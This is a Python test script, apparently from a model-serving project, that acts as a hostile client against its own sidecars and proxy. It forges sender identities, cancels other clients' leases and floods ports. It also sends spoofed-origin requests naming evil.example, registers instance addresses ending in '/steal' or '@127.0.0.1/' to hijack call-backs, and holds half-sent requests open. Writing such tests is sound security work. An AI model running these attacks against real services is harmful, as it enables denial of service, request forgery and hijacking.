"""A hostile client of sidecars and of the proxy. Runs in its own process, on another host than its victims.

    python hostile.py ATTACK '{"host": HOST, ...}'

The script prints the answers that it got, as JSON. Each attack ends after a number of messages, not after a time.
"""

from __future__ import annotations

import http.client
import json
import secrets
import socket
import struct
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import msgspec
import zmq

FIXTURES = Path(__file__).resolve().parent.parent.parent / "protocol" / "fixtures"
FOREIGN = {"Origin": "http://evil.example", "Host": "evil.example"}


def fixture(name: str) -> dict[str, Any]:
    message: dict[str, Any] = msgspec.msgpack.decode((FIXTURES / f"{name}.bin").read_bytes())
    return message


def say(what: object) -> None:
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


class Peer:
    """A connection to a ZeroMQ port."""

    def __init__(self, kind: int, host: str, port: int, identity: bytes = b"") -> None:
        self._socket: Any = zmq.Context.instance().socket(kind)
        self._socket.linger = 20_000
        self._socket.rcvtimeo = 20_000
        if identity:
            self._socket.identity = identity
        self._socket.connect(f"tcp://{host}:{port}")

    def send(self, message: dict[str, Any]) -> None:
        self._socket.send(msgspec.msgpack.encode(message))

    def answer(self) -> dict[str, Any] | None:
        """Returns the next answer, or None if no answer comes in time."""
        with suppress(zmq.Again):
            answer: dict[str, Any] = msgspec.msgpack.decode(self._socket.recv())
            return answer
        return None

    def drain(self) -> int:
        """Reads all answers that have arrived, and returns their number."""
        count = 0
        while self._socket.poll(50):
            self._socket.recv()
            count += 1
        return count

    def close(self) -> None:
        self._socket.close()


class Intruder:
    """A sender that speaks the protocol and gets its own leases. The ports demand no key."""

    def __init__(self, given: dict[str, Any], name: str) -> None:
        self.given, self.name, self.epoch = given, name, secrets.randbits(63) | 1
        hello = fixture("init_request")
        hello["x"] |= {"id": name, "epoch": self.epoch, "layout": given["layout"]}
        init = Peer(zmq.REQ, given["host"], given["init_port"])
        init.send(hello)
        answer = init.answer()
        assert answer is not None and not answer["x"].get("refused"), answer
        self.to_epoch = answer["x"]["epoch"]
        self.alloc = Peer(zmq.DEALER, given["host"], given["alloc_port"])
        self.seq = 0

    def lease(self) -> tuple[int, int]:
        """Returns a lease of one slot and the slot."""
        self.seq += 1
        message = fixture("alloc_request")
        layout, chunk_tokens = self.given["layout"], self.given["layout"]["chunk_tokens"]
        name = f"{self.name}-{self.seq}"
        key = f"tiny@1@0@{secrets.token_hex(7)}@bfloat16"
        shape = [2, layout["layers"], chunk_tokens, layout["kv_heads"] * layout["head_size"]]
        message |= {"req_id": name, "keys": [key], "total_chunks": 1, "last_chunk_toks": chunk_tokens, "shape": shape}
        message["x"] |= {
            "seq": self.seq, "id": self.name, "epoch": self.epoch, "to_epoch": self.to_epoch, "tokens": chunk_tokens,
            "lease_ms": 30_000, "wait_ms": 1000, "park_ms": 0, "transport": "tcp",
        }  # fmt: skip
        self.alloc.send(message)
        while (answer := self.alloc.answer()) is not None:
            if answer["type"] == "AllocResponse" and answer["x"]["seq"] == self.seq:
                assert answer["x"].get("lease"), answer
                return answer["x"]["lease"], answer["remote_indexes"][0]
        raise AssertionError("no answer to a question")

    def give_back(self, lease: int) -> None:
        self.seq += 1
        message = fixture("cancel_notif")
        message["x"] |= {"seq": self.seq, "lease": lease, "epoch": self.to_epoch, "dirty": []}
        self.alloc.send(message)
        while (answer := self.alloc.answer()) is not None:
            if answer["type"] == "AllocResponse" and answer["x"]["seq"] == self.seq:
                return
        raise AssertionError("no answer to a cancel")


def ports(given: dict[str, Any]) -> object:
    """Connects to ports, sends random bytes to each port that accepts the connection, and returns these ports."""
    answered = []
    for port in given["ports"]:
        with socket.socket() as stream, suppress(OSError):
            stream.settimeout(10)
            stream.connect((given["host"], port))
            answered.append(port)
            stream.sendall(secrets.token_bytes(2000))
    return answered


def sums(given: dict[str, Any]) -> object:
    """Sends messages that each contain thousands of checksums of one chunk."""
    intruder = Intruder(given, "sums")
    answers = 0
    for _ in range(given["leases"]):
        lease, slot = intruder.lease()
        times = 3500
        message = fixture("written") | {"lease": lease, "epoch": intruder.to_epoch}
        message |= {"chunks": [0] * times, "indexes": [slot] * times, "sums": [0] * times}
        # Use in turn the granted lease (the receiver answers with a refusal) and a lease that does not exist.
        for number in range(given["messages"]):
            intruder.alloc.send(message | {"lease": lease + number % 2})
            answers += intruder.alloc.answer() is not None
        intruder.give_back(lease)
    return answers


def data(given: dict[str, Any]) -> object:
    """Opens data connections that each present a valid lease. Then ends the lease, and keeps the connections open."""
    intruder = Intruder(given, "data")
    lease, slot = intruder.lease()
    layout = given["layout"]
    slot_bytes = 2 * layout["layers"] * layout["chunk_tokens"] * layout["kv_heads"] * layout["head_size"] * 2
    hello = bytes.fromhex("8970646b760d0a00") + struct.pack("<IIQ", 1, given["slots"], slot_bytes)
    write = struct.pack("<IIQQ", 0x57520001, 1, 1, lease) + struct.pack("<IIQQ", slot, 0, 0, 8) + bytes(8)
    held, landed = [], 0
    for _ in range(given["connections"]):
        stream = socket.create_connection((given["host"], given["tcp_port"]), timeout=20)
        with suppress(OSError):
            stream.sendall(hello + write)
            answers = b""
            while len(answers) < 32 and (part := stream.recv(64)):
                answers += part
            landed += answers[16:20] == struct.pack("<I", 0x414C0001)
        held.append(stream)
    intruder.give_back(lease)
    say(landed)
    sys.stdin.read()
    return len(held)


def identity(given: dict[str, Any]) -> object:
    """Connects with the socket identity of another sender."""
    peers = [Peer(zmq.DEALER, given["host"], given["alloc_port"], given["identity"].encode()) for _ in range(20)]
    for peer in peers:
        peer.send(fixture("cancel_notif_lmcache"))
    return sum(peer.drain() for peer in peers)


def cancels(given: dict[str, Any]) -> object:
    """Cancels the requests of others, and leases that the receiver did not grant to this client."""
    peer = Peer(zmq.DEALER, given["host"], given["alloc_port"])
    for _ in range(given["rounds"]):
        for req in given["ids"]:
            peer.send({"type": "CancelNotif", "req_id": req, "keys": [f"tiny@1@0@{n:x}@bfloat16" for n in range(9)]})
            message = fixture("cancel_notif") | {"req_id": req}
            message["x"] |= {"lease": secrets.randbits(63), "epoch": given["epoch"]}
            peer.send(message)
        peer.drain()
    return given["rounds"]


def addresses(given: dict[str, Any]) -> object:
    """Registers instances whose addresses have endings that would turn the proxy's call-back into another request."""
    canary = f"http://{given['canary']}"
    peer = Peer(zmq.PUSH, given["host"], given["registration_port"])
    suffixes = ("#", "?", "/steal", "/steal?a=b#", "/#", "/?x=", "/..;/", "@127.0.0.1/", "\\@", "%23")
    for number, suffix in enumerate(suffixes * given["rounds"]):
        for fields in (
            {"admin": canary + suffix},
            {"http": canary + suffix},
            {"admin": f"{canary}{suffix}", "http": canary},
        ):
            register = fixture("register") | {"id": f"evil-{number}", "http": "http://127.0.0.1:1", "host": "127.0.0.1"}
            peer.send(register | {"admin": "http://127.0.0.1:1"} | fields)
    peer.close()
    zmq.Context.instance().term()
    return len(suffixes) * given["rounds"] * 3


def changes(given: dict[str, Any]) -> object:
    """Sends requests that change the proxy's state. A page in a browser, or another proxy, could send the same."""
    instance = json.dumps({"id": "evil", "role": "decode", "url": "http://127.0.0.1:1", "connector": "nixl"})
    paths = {
        "/instances": instance, "/mode/ppd": "{}", "/conversations/clear": "{}",
        **{f"/instances/{name}/drain": "{}" for name in given["ids"]},
    }  # fmt: skip
    local, own = given["host"] in ("127.0.0.1", "localhost"), f"{given['host']}:{given['port']}"
    tries: list[dict[str, str]] = [
        {"Content-Type": "text/plain"},
        {"Content-Type": "text/plain", **FOREIGN},
        {"Content-Type": "application/json", **FOREIGN},
        {"Content-Type": "application/json", "Origin": "null"},
        {"Content-Type": "application/json", "Host": own, "Origin": "http://evil.example"},
        {"Content-Type": "application/json", "X-Forwarded-For": "127.0.0.1"},
        {"Content-Type": "application/json", "Host": "localhost", "Forwarded": "for=127.0.0.1"},
        *([] if local else [{"Content-Type": "application/json", "Host": "127.0.0.1"}]),
    ]
    answers = set()
    for headers in tries:
        for path, body in paths.items():
            answers.add(status(given, path, headers, body))
    return sorted(answers)


def status(given: dict[str, Any], path: str, headers: dict[str, str], body: str) -> int:
    connection = http.client.HTTPConnection(given["host"], given["port"], timeout=30)
    try:
        connection.putrequest("POST", path, skip_host="Host" in headers)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            connection.putheader(name, value)
        connection.endheaders(body.encode())
        return connection.getresponse().status
    finally:
        connection.close()


def halves(given: dict[str, Any]) -> object:
    """Sends half of a body on each of many connections, and keeps the connections open until stdin ends."""
    head = (
        "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    )
    held = []
    for _ in range(given["connections"]):
        with suppress(OSError):
            stream = socket.create_connection((given["host"], given["port"]), timeout=5)
            held.append(stream)
            stream.sendall(head.encode() + b'{"prompt": "')
    say(len(held))
    sys.stdin.read()
    return len(held)


def endless(given: dict[str, Any]) -> object:
    """Requests the answer that contains an endless event. Returns the number of bytes received, and the seconds."""
    began = time.monotonic()
    connection = http.client.HTTPConnection(given["host"], given["port"], timeout=30)
    body = {"model": "m", "prompt": "endless", "max_tokens": 9, "stream": True}
    connection.request("POST", "/v1/completions", json.dumps(body), {"Content-Type": "application/json"})
    size = 0
    with suppress(OSError, http.client.HTTPException):
        answer = connection.getresponse()
        while part := answer.read(1 << 20):
            size += len(part)
    return [size, time.monotonic() - began]


ATTACKS = {a.__name__: a for a in (ports, sums, data, identity, cancels, addresses, changes, halves, endless)}

if __name__ == "__main__":
    say(ATTACKS[sys.argv[1]](json.loads(sys.argv[2])))
